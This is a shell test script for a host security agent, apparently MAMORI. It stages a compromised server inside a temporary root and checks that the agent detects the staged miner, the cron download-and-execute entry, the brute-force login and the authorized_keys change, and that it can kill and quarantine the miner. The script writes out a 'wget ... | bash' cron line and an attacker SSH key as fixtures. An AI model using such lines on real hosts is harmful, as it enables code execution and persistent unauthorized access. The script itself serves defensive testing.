#!/bin/sh
# story.sh MAMORI - issue 9's story staged whole on this machine, under a
# temporary test root R: user `git` in R/etc/passwd; a crontab entry
# `wget -q -O - http://127.0.0.1:PORT/gi.sh | bash` in R/var/spool/cron/git
# and its CROND CMD line in R/var/log/cron; R/var/log/secure with an SSH
# brute force and then an accepted password from the same address; two
# processes of a busy-loop program compiled here and copied to
# R/tmp/.gitlab/kthreaddw, each holding an ESTABLISHED TCP connection to a
# listener on 127.0.0.3 that is in a test mining list; a key appended to
# ~git/.ssh/authorized_keys between two agent cycles.
# Asserted (only what is deterministic: no CPU thresholds): the findings
# BitcoinTool.B (naming the process and its executable), the cron
# download-and-execute (Execution:Runtime/SuspiciousCommand),
# AuthorizedKeysModified, SuccessfulLoginAfterBruteForce; a triage bundle
# holding each piece of evidence; then `respond kill` and `respond
# quarantine` on the staged miner: dry run, act, undo. Every process the
# test starts is killed on exit; bounded (timeouts everywhere).
# Ends "story: N passed, N failed, N skipped".
HERE=$(cd "$(dirname "$0")" && pwd)
. "$HERE/lib/suite.sh"
SUITE=story
. "$HERE/lib/hostsuite.sh"
host_need cc python3
host_need_detectors

R="$T/root"
DB="$T/story.db"
AUD="$T/audit.log"
POOL=127.0.0.3
mkdir -p "$R/etc" "$R/home/git/.ssh" "$R/var/spool/cron" "$R/var/log" "$R/tmp/.gitlab" "$T/src"
# cloud-init's cache of the instance metadata (as on EC2; sensitive keys redacted):
# the account and region the findings name
mkdir -p "$R/run/cloud-init"
cat >"$R/run/cloud-init/instance-data.json" <<'JSONEOF'
{
 "_beta_keys": ["subplatform"],
 "ds": {
  "_doc": "EXPERIMENTAL: The structure and format of content scoped under the 'ds' key may change in subsequent releases of cloud-init.",
  "dynamic": {
   "instance-identity": {
    "document": {
     "accountId": "210987654321",
     "architecture": "x86_64",
     "availabilityZone": "eu-west-3a",
     "imageId": "ami-0c4b2a5e27ec8c7a1",
     "instanceId": "i-0badc0ffee0000001",
     "instanceType": "t3.small",
     "privateIp": "10.0.3.17",
     "region": "eu-west-3",
     "version": "2017-09-30"
    }
   }
  },
  "meta_data": {"instance-id": "i-0badc0ffee0000001", "security-credentials": "redacted for non-root user"}
 },
 "v1": {
  "cloud_name": "aws",
  "instance_id": "i-0badc0ffee0000001",
  "platform": "ec2",
  "region": "eu-west-3"
 }
}
JSONEOF

# --- the mining pool: a listener on 127.0.0.3 that holds what connects -----------------
pool_listen "$POOL"
expect pool_listening "no listener on $POOL" test -n "$PORT"
echo "$POOL" >"$T/mining.txt"

# --- the miner: a busy loop of its own (an ELF, not a copied shell) ----------------------
build_miner "$T/src/kthreaddw" half || { bad build_miner "cc failed"; echo "story: $pass passed, $fail failed, $skip skipped"; exit 1; }
EXE="$R/tmp/.gitlab/kthreaddw"
cp "$T/src/kthreaddw" "$EXE"
SHA=$(sha256sum "$EXE" | cut -d' ' -f1)
"$EXE" "$POOL" "$PORT" &
M1=$!
"$EXE" "$POOL" "$PORT" &
M2=$!
PIDS="$PIDS $M1 $M2"
# established: both hold a connection to the pool
i=0
while [ $i -lt 50 ]; do
	n=$(python3 - "$PORT" <<'PY'
import sys
port = "%04X" % int(sys.argv[1])
n = 0
for l in open("/proc/net/tcp").read().splitlines()[1:]:
    f = l.split()
    if f[2].endswith(":" + port) and f[3] == "01":
        n += 1
print(n)
PY
)
	[ "$n" -ge 2 ] && break
	sleep 0.1; i=$((i + 1))
done
expect miners_connected "$n established connections to the pool" test "$n" -ge 2

# --- the host's files: account, crontab, logs, authorized_keys -----------------------------
printf 'root:x:0:0:root:/root:/bin/bash\ngit:x:1001:1001:GitLab:/home/git:/bin/bash\n' >"$R/etc/passwd"
printf 'root:*:19000:0:99999:7:::\ngit:$6$x$y:19000:0:99999:7:::\n' >"$R/etc/shadow"
chmod 600 "$R/etc/shadow"
CRONCMD="wget -q -O - http://127.0.0.1:$PORT/gi.sh | bash"
echo "*/5 * * * * $CRONCMD" >"$R/var/spool/cron/git"
echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGitLabDeployKeyOnly0000000000000000000 deploy@gitlab' \
	>"$R/home/git/.ssh/authorized_keys"
ts() { date -d "@$(( $(date +%s) - $1 ))" '+%b %e %H:%M:%S'; }
ATT=198.51.100.23
{
	i=0
	while [ $i -lt 25 ]; do
		echo "$(ts $((900 - i * 10))) web-1 sshd[$((4000 + i))]: Failed password for root from $ATT port $((40000 + i)) ssh2"
		i=$((i + 1))
	done
	echo "$(ts 600) web-1 sshd[4100]: Accepted password for git from $ATT port 41000 ssh2"
	echo "$(ts 600) web-1 sshd[4100]: pam_unix(sshd:session): session opened for user git(uid=1001) by (uid=0)"
} >"$R/var/log/secure"
echo "$(ts 300) web-1 CROND[5151]: (git) CMD ($CRONCMD)" >"$R/var/log/cron"
# the login in wtmp too (what `last` shows)
python3 - "$R/var/log/wtmp" "$ATT" <<'PY'
import struct, sys, time
f = "hi32s4s32s256shhiii4i20s"
def rec(t, pid, line, user, host):
    return struct.pack(f, t, pid, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0,
                       int(time.time()) - 600, 0, 0, 0, 0, 0, b"")
open(sys.argv[1], "wb").write(rec(7, 4100, "pts/0", "git", sys.argv[2]))
PY

agent() {
	timeout 60 "$M" agent --once --db "$DB" --root "$R" --sample-ms 200 --host web-1 \
		--instance-id i-0badc0ffee0000001 --threat-list "mining=$T/mining.txt" "$@"
}

# --- cycle 1: processes, sockets, logs; the FIM baseline ------------------------------------
agent --format json >"$T/c1.json" 2>"$T/c1.err"; rc=$?
expect cycle1_exit_0 "exit $rc: $(tail -3 "$T/c1.err")" test $rc -eq 0
expect cycle1_baseline "$(tail -1 "$T/c1.err")" has "$T/c1.err" "baseline recorded"

# --- between the cycles: the attacker's key ----------------------------------------------
echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABAQCattackerKey000000000000000000000 root@kthreaddw' \
	>>"$R/home/git/.ssh/authorized_keys"

# --- cycle 2: the file change -----------------------------------------------------------
agent --format json >"$T/c2.json" 2>"$T/c2.err"; rc=$?
expect cycle2_exit_0 "exit $rc: $(tail -3 "$T/c2.err")" test $rc -eq 0

"$M" findings list --db "$DB" --format json >"$T/all.json"
TYPES=$(grep -o '"type":"[^"]*"' "$T/all.json" | sort | uniq -c | tr '\n' ' ')
# finding TYPE: the findings of that type, one a line
finding() { grep -F "\"type\":\"$1\"" "$T/all.json"; }
finding "CryptoCurrency:Runtime/BitcoinTool.B" >"$T/btc.json"
expect bitcointool "types: $TYPES" test -s "$T/btc.json"
expect bitcointool_process_name "$(head -c 600 "$T/btc.json")" has "$T/btc.json" '"name":"kthreaddw"'
expect bitcointool_exe_path "exe" has "$T/btc.json" "\"executablePath\":\"$EXE\""
expect bitcointool_exe_sha256 "sha256" has "$T/btc.json" "$SHA"
expect bitcointool_pool "the pool address" has "$T/btc.json" "$POOL"
expect bitcointool_instance "on the instance" has "$T/btc.json" "i-0badc0ffee0000001"
finding "Execution:Runtime/SuspiciousCommand" >"$T/exec.json"
expect cron_download_execute "types: $TYPES" has "$T/exec.json" "gi.sh"
finding "Persistence:Runtime/AuthorizedKeysModified" >"$T/keys.json"
expect authorized_keys_modified "types: $TYPES" has "$T/keys.json" "/home/git/.ssh/authorized_keys"
finding "InitialAccess:Runtime/SuccessfulLoginAfterBruteForce" >"$T/login.json"
expect login_after_brute_force "types: $TYPES" has "$T/login.json" "$ATT"
expect login_user_git "the user" has "$T/login.json" '"git"'
finding "UnauthorizedAccess:Runtime/SSHBruteForce" >"$T/brute.json"
expect brute_force "types: $TYPES" has "$T/brute.json" "$ATT"
# the followed logs are this host's: their findings name its instance, like the collectors'
expect brute_force_instance "$(head -c 300 "$T/brute.json")" has "$T/brute.json" '"instanceId":"i-0badc0ffee0000001"'
expect login_after_brute_instance "instance" has "$T/login.json" '"instanceId":"i-0badc0ffee0000001"'
expect cron_download_instance "instance" has "$T/exec.json" '"instanceId":"i-0badc0ffee0000001"'
# every finding names the account and region of cloud-init's identity document
expect findings_name_account "$(grep -vc '"accountId":"210987654321"' "$T/all.json") without it" \
	sh -c "! grep -v '\"accountId\":\"210987654321\"' '$T/all.json' | grep -q ."
expect findings_name_region "$(grep -vc '"region":"eu-west-3"' "$T/all.json") without it" \
	sh -c "! grep -v '\"region\":\"eu-west-3\"' '$T/all.json' | grep -q ."
"$M" agent --once --db "$T/x.db" --root "$R" --account-id 12345 >/dev/null 2>"$T/badacct.err"; rc=$?
expect account_id_checked "exit $rc: $(cat "$T/badacct.err")" sh -c "[ $rc -eq 2 ] && grep -q '12-digit' '$T/badacct.err'"
# look-alikes: the pool's own accepted sockets are not its doing; the deploy key
# present at the baseline is no finding
python3 -c 'import json,sys
print(" ".join(sorted({json.loads(l)["service"]["runtimeDetails"]["process"]["name"] for l in open(sys.argv[1])})))' "$T/btc.json" >"$T/btc.names"
expect bitcointool_only_the_miner "process names: $(cat "$T/btc.names")" test "$(cat "$T/btc.names")" = kthreaddw
expect cycle1_no_keys_finding "cycle 1 printed AuthorizedKeysModified" sh -c "! grep -q AuthorizedKeysModified '$T/c1.json'"
expect cycle2_prints_keys_finding "--once prints what it touched" has "$T/c2.json" "AuthorizedKeysModified"
# nothing twice: the second cycle did not make a second BitcoinTool.B for the same process
expect bitcointool_not_doubled "$(wc -l <"$T/btc.json") findings" test "$(wc -l <"$T/btc.json")" -le 2

# --- the triage bundle: every piece of evidence ---------------------------------------------
timeout 60 "$M" agent triage --out "$T/bundle.tar.gz" --root "$R" --db "$DB" --sample-ms 200 -q 2>"$T/triage.err"; rc=$?
expect triage_exit_0 "exit $rc: $(cat "$T/triage.err")" test $rc -eq 0
mkdir -p "$T/bx" && tar xzf "$T/bundle.tar.gz" -C "$T/bx" 2>"$T/tar.err"
B="$T/bx/mamori-triage"
expect triage_extracts "$(cat "$T/tar.err")" test -d "$B"
# the miners' process entries ("name exe sha256 suspicious") and their
# pool connections, read from processes.json and sockets.json in one go
python3 - "$B" "$M1" "$M2" "$POOL" "$PORT" >"$T/ev.txt" <<'PY'
import json, sys
b, pids, pool, port = sys.argv[1], [int(sys.argv[2]), int(sys.argv[3])], sys.argv[4], int(sys.argv[5])
procs = json.load(open(b + "/processes.json"))
socks = json.load(open(b + "/sockets.json"))
for pid in pids:
    p = [x for x in procs if x.get("pid") == pid]
    print("proc", pid, *([p[0].get("name"), p[0].get("exe"), p[0].get("sha256"), p[0].get("suspicious")] if p else ["none"]))
    n = sum(1 for s in socks if s.get("pid") == pid and s.get("remote") == pool and
            s.get("rport") == port and s.get("state") == "ESTABLISHED")
    print("sock", pid, n)
PY
expect triage_miner1 "$(cat "$T/ev.txt")" grep -qxF "proc $M1 kthreaddw $EXE $SHA True" "$T/ev.txt"
expect triage_miner2 "$(cat "$T/ev.txt")" grep -qxF "proc $M2 kthreaddw $EXE $SHA True" "$T/ev.txt"
expect triage_socket_miner1 "$(cat "$T/ev.txt")" grep -qxF "sock $M1 1" "$T/ev.txt"
expect triage_socket_miner2 "$(cat "$T/ev.txt")" grep -qxF "sock $M2 1" "$T/ev.txt"
expect triage_suspicious_binary "$(head -c 300 "$B/suspicious_binaries.json")" sh -c "grep -q '$SHA' '$B/suspicious_binaries.json' && grep -q '$EXE' '$B/suspicious_binaries.json'"
expect triage_summary "$(head -20 "$B/summary.txt")" sh -c "grep -q kthreaddw '$B/summary.txt' && grep -q 'tcp -> $POOL:$PORT' '$B/summary.txt'"
expect triage_crontab_line "$(head -c 300 "$B/crontabs.json")" has "$B/crontabs.json" "gi.sh | bash"
expect triage_cron_log "CROND line" has "$B/logs/cron.txt" "CROND\[5151\]: (git) CMD (wget"
expect triage_auth_brute "failures" test "$(grep -c "Failed password for root from $ATT" "$B/logs/secure.txt")" -eq 25
expect triage_auth_accepted "accepted" has "$B/logs/secure.txt" "Accepted password for git from $ATT"
expect triage_fim_keys "$(head -c 300 "$B/fim_changes.json")" sh -c "grep -q '/home/git/.ssh/authorized_keys' '$B/fim_changes.json' && grep -q 'attackerKey' '$B/fim_changes.json'"
expect triage_login "git from $ATT in logins.json" python3 -c "import json,sys; l=json.load(open(sys.argv[1])); assert any(r['user']=='git' and r['host']=='$ATT' and r['type']=='login' for r in l)" "$B/logins.json"
expect triage_user_git_keys "$(ls -R "$B/users" 2>&1 | head -5)" sh -c "grep -q attackerKey '$B/users/git/.ssh/authorized_keys'"
expect triage_users_json "git in users.json" has "$B/users.json" '"git"'

# --- containment: kill, then quarantine the staged miner (dry run, act, undo) --------------
O="--db $DB --audit-log $AUD"
last_id() { "$M" agent respond list $O | awk 'NR>1{id=$1} END{print id}'; }
detail() { # ID KEY
	"$M" agent respond list $O --format json |
		python3 -c 'import json,sys
for l in sys.stdin:
    j=json.loads(l)
    if j["id"]==sys.argv[1]: print(j["detail"].get(sys.argv[2],""))' "$1" "$2"
}
"$M" agent respond kill $M1 $O >"$T/k.out" 2>&1; rc=$?
expect kill_dry_exit "exit $rc: $(cat "$T/k.out")" test $rc -eq 0
expect kill_dry_alive "the miner died on a dry run" kill -0 $M1
expect kill_dry_says "$(cat "$T/k.out")" has "$T/k.out" "would kill pid $M1: exe $EXE"
"$M" agent respond kill $M1 $O --yes --grace 2000 >"$T/k.out" 2>&1; rc=$?
wait $M1 2>/dev/null
expect kill_exit "exit $rc: $(cat "$T/k.out")" test $rc -eq 0
expect kill_gone "miner $M1 still there" sh -c "! kill -0 $M1 2>/dev/null"
KID=$(last_id)
expect kill_recorded_sha256 "recorded '$(detail "$KID" exe_sha256)'" test "$(detail "$KID" exe_sha256)" = "$SHA"
"$M" agent respond undo "$KID" $O --yes >"$T/ku.out" 2>&1; rc=$?
expect kill_undo_refused "exit $rc: $(cat "$T/ku.out")" sh -c "[ $rc -ne 0 ] && grep -q 'cannot be brought back' '$T/ku.out'"
RO="--root $R $O"
"$M" agent respond quarantine /tmp/.gitlab/kthreaddw $RO >"$T/q.out" 2>&1; rc=$?
expect quarantine_dry_exit "exit $rc: $(cat "$T/q.out")" test $rc -eq 0
expect quarantine_dry_untouched "moved on a dry run" test -f "$EXE"
expect quarantine_dry_hash "$(cat "$T/q.out")" has "$T/q.out" "sha256 $SHA"
"$M" agent respond quarantine /tmp/.gitlab/kthreaddw $RO --yes >"$T/q.out" 2>&1; rc=$?
QID=$(last_id)
QD="$R/var/lib/mamori/quarantine"
expect quarantine_exit "exit $rc: $(cat "$T/q.out")" test $rc -eq 0
expect quarantine_moved "still in place" test ! -e "$EXE"
expect quarantine_mode000 "mode $(stat -c %a "$QD/$QID" 2>/dev/null)" test "$(stat -c %a "$QD/$QID" 2>/dev/null)" = 0
expect quarantine_second_miner_runs "a running binary moves; its process goes on" kill -0 $M2
"$M" agent respond undo "$QID" $RO --yes >"$T/qu.out" 2>&1; rc=$?
expect quarantine_undo_exit "exit $rc: $(cat "$T/qu.out")" test $rc -eq 0
expect quarantine_restored "content differs" test "$(sha256sum "$EXE" 2>/dev/null | cut -d' ' -f1)" = "$SHA"
"$M" agent respond kill $M2 $O --yes --grace 2000 >/dev/null 2>&1
wait $M2 2>/dev/null
expect kill_second "miner $M2 still there" sh -c "! kill -0 $M2 2>/dev/null"
expect audit_log_rows "$(wc -l <"$AUD") audit lines" test "$(wc -l <"$AUD")" -ge 7

echo "story: $pass passed, $fail failed, $skip skipped"
[ $fail -eq 0 ]
